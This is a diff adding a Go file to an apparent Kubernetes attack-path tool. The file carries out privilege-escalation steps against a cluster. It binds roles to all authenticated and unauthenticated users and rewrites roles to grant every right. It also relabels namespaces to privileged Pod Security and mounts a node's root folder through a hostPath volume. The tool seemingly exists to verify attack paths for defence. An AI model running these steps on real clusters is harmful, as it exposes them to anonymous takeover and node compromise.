@@ -1,0 +1,187 @@
+package attackpaths
+
+import (
+	"context"
+	"fmt"
+	"regexp"
+	"slices"
+	"strings"
+
+	rbacv1 "k8s.io/api/rbac/v1"
+
+	"github.com/node-authorizer/node-authorizer/attackpaths"
+)
+
+// bindText is the text of a step by BindRole: the role and the scope.
+var bindText = regexp.MustCompile(`^may bind (ClusterRole|Role) "(?:[^"/]+/)?([^"]+)" in (?:the whole cluster|namespace ([^ ;]+))`)
+
+// everybody are the subjects of the bindings that the attacker makes: each of its identities.
+var everybody = []any{
+	map[string]any{"kind": "Group", "apiGroup": rbacGroup, "name": "system:authenticated"},
+	map[string]any{"kind": "Group", "apiGroup": rbacGroup, "name": "system:unauthenticated"},
+}
+
+// bindRole binds a role, in a new binding or one that exists.
+func (e *executor) bindRole(ctx context.Context, s step) error {
+	m := bindText.FindStringSubmatch(s.Because)
+	if m == nil {
+		return fmt.Errorf("the step names no role")
+	}
+	kind, name, namespace := m[1], m[2], m[3]
+	resource := clusterRoleBindings
+	if namespace != "" {
+		resource = roleBindings
+	}
+	binding := map[string]any{
+		"metadata": map[string]any{"name": fmt.Sprint("made-", e.counter.Add(1))},
+		"roleRef":  map[string]any{"apiGroup": rbacGroup, "kind": kind, "name": name},
+		"subjects": everybody,
+	}
+	actors := e.acting(s)
+	last, _ := first(actors, func(a *actor) answer { return a.post(ctx, resource.in(namespace), binding) })
+	for _, o := range e.list(ctx, resource) {
+		ref, _ := o.content["roleRef"].(map[string]any)
+		if !last.refused() || o.namespace() != namespace || ref["kind"] != kind || ref["name"] != name {
+			continue
+		}
+		subjects, _ := o.content["subjects"].([]any)
+		o.content["subjects"] = append(slices.Clone(subjects), everybody...)
+		change := map[string]any{"subjects": o.content["subjects"]}
+		last, _ = first(actors, func(a *actor) answer { return replace(ctx, a, o.path, o.content, change) })
+	}
+	if err := last.failure(); err != nil {
+		return err
+	}
+	return e.settle(ctx)
+}
+
+// allRules is every right.
+var allRules = []any{map[string]any{"verbs": []string{"*"}, "apiGroups": []string{"*"}, "resources": []string{"*"}}}
+
+// escalateRole adds every right to a role that is bound to an identity of the attacker.
+func (e *executor) escalateRole(ctx context.Context, s step) error {
+	namespace := ""
+	if _, after, ok := strings.Cut(s.Because, "in namespace "); ok {
+		namespace, _, _ = strings.Cut(after, ";")
+	}
+	resource := clusterRoleBindings
+	if namespace != "" {
+		resource = roleBindings
+	}
+	last := answer{err: fmt.Errorf("no role is bound to an identity that is held")}
+	for _, o := range e.list(ctx, resource) {
+		if o.namespace() != namespace || !e.isBound(o) {
+			continue
+		}
+		ref, _ := o.content["roleRef"].(map[string]any)
+		name, _ := ref["name"].(string)
+		path := clusterRoles.at("", name)
+		if ref["kind"] == "Role" {
+			path = roles.at(namespace, name)
+		}
+		if last = e.escalate(ctx, e.acting(s), path, false); last.ok() {
+			return e.settle(ctx)
+		}
+	}
+	return last.failure()
+}
+
+// escalate gives a role every right. A controller fills aggregated roles, so that the
+// aggregation is removed.
+func (e *executor) escalate(ctx context.Context, actors []*actor, path string, try bool) answer {
+	var whole map[string]any
+	if a := e.admin.get(ctx, path); !a.ok() || a.into(&whole) != nil {
+		return a
+	}
+	whole["rules"] = allRules
+	rules := map[string]any{"rules": allRules}
+	if whole["aggregationRule"] != nil {
+		whole["aggregationRule"], rules["aggregationRule"] = nil, nil
+	}
+	a, _ := first(actors, func(a *actor) answer { return change(ctx, a, path, whole, rules, try) })
+	return a
+}
+
+// isBound reports whether a binding is about an identity that is held.
+func (e *executor) isBound(o object) bool {
+	subjects, _ := o.content["subjects"].([]any)
+	return slices.ContainsFunc(subjects, func(x any) bool {
+		m, _ := x.(map[string]any)
+		text := func(k string) string { v, _ := m[k].(string); return v }
+		return slices.ContainsFunc(e.actors, func(a *actor) bool {
+			return isSubject(rbacv1.Subject{Kind: text("kind"), Namespace: text("namespace"), Name: text("name")}, a.holding)
+		})
+	})
+}
+
+// isSubject reports whether a subject of a binding is an identity.
+func isSubject(s rbacv1.Subject, h holding) bool {
+	switch s.Kind {
+	case rbacv1.ServiceAccountKind:
+		return h.Kind == attackpaths.ServiceAccount && h.Namespace == s.Namespace && h.Name == s.Name
+	case rbacv1.UserKind:
+		return h.Kind == attackpaths.User && h.Name == s.Name || h.Kind == attackpaths.ServiceAccount && accountUser(h) == s.Name
+	}
+	switch s.Name {
+	case "system:authenticated":
+		return true
+	case "system:serviceaccounts", "system:serviceaccounts:" + h.Namespace:
+		return h.Kind == attackpaths.ServiceAccount
+	case "system:nodes":
+		return h.Kind == attackpaths.User && strings.HasPrefix(h.Name, "system:node:")
+	}
+	return h.Kind == attackpaths.Group && h.Name == s.Name
+}
+
+// namespaceRelabel turns Pod Security of a namespace off.
+func (e *executor) namespaceRelabel(ctx context.Context, s step) error {
+	labels := map[string]any{"metadata": map[string]any{"name": s.To.Name, "labels": map[string]any{enforceLabel: "privileged"}}}
+	changed, _ := first(e.acting(s), func(a *actor) answer { return replace(ctx, a, namespaces.at("", s.To.Name), labels, labels) })
+	if err := changed.failure(); err != nil {
+		return err
+	}
+	return e.untilPrivileged(ctx, s.To.Name, true)
+}
+
+// volumeControl mounts a folder of a node through a persistent volume.
+func (e *executor) volumeControl(ctx context.Context, s step) error {
+	last := error(errNoActor)
+	for _, m := range e.makersOf(s) {
+		if last = e.mountHost(ctx, s, m); last == nil {
+			return e.ownNode(ctx, s.To.Name)
+		}
+	}
+	return last
+}
+
+func (e *executor) mountHost(ctx context.Context, s step, m maker) error {
+	name := fmt.Sprint("made-", e.counter.Add(1))
+	made, _ := first(e.acting(s), func(a *actor) answer { return a.post(ctx, volumes.in(""), hostVolume(m.namespace, name)) })
+	if err := made.failure(); err != nil {
+		return err
+	}
+	made, _ = first(e.acting(s), func(a *actor) answer { return a.post(ctx, claims.in(m.namespace), hostClaim(name)) })
+	if err := made.failure(); err != nil {
+		return err
+	}
+	p, err := e.makePod(ctx, m, podSpec{node: s.To.Name, claim: name})
+	if err != nil {
+		return err
+	}
+	return e.runs(ctx, p.Namespace, p.Name, s.To.Name)
+}
+
+// hostVolume is a persistent volume that is the root folder of whatever node mounts it.
+func hostVolume(namespace, name string) map[string]any {
+	return map[string]any{"metadata": map[string]any{"name": name}, "spec": map[string]any{
+		"capacity": map[string]any{"storage": "1Gi"}, "accessModes": []string{"ReadWriteMany"},
+		"hostPath": map[string]any{"path": "/"}, "claimRef": map[string]any{"namespace": namespace, "name": name},
+	}}
+}
+
+func hostClaim(name string) map[string]any {
+	return map[string]any{"metadata": map[string]any{"name": name}, "spec": map[string]any{
+		"accessModes": []string{"ReadWriteMany"}, "volumeName": name, "storageClassName": "",
+		"resources": map[string]any{"requests": map[string]any{"storage": "1Gi"}},
+	}}
+}
